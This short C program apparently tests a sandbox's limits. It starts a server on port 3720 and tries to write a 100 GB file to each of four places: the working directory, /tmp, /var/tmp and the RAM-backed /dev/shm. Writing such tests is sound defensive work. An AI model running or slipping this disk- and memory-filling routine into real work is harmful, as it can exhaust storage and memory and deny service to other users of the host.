/* Story: a file of 100 GB, beside the program and in every place that can be written. */
#include "server.h"

#include "say_hello.h"

#include "wait.h"

int
main(int argc, char **argv)
{
    int listener = server_begin(argc, argv, "3720");

    static char block[1 << 20];
    static const char *const places[] = {"big", "/tmp/big", "/var/tmp/big", "/dev/shm/big"};

    for (int i = 0; i < 4; i++) {
        int file = open(places[i], O_WRONLY | O_CREAT, 0600);
        memset(block, 'x', sizeof block);
        for (int mb = 0; mb < 100 << 10 && write(file, block, sizeof block) > 0; mb++)
            continue;
    }
    wait_for_clients(listener);
    return 0;
}
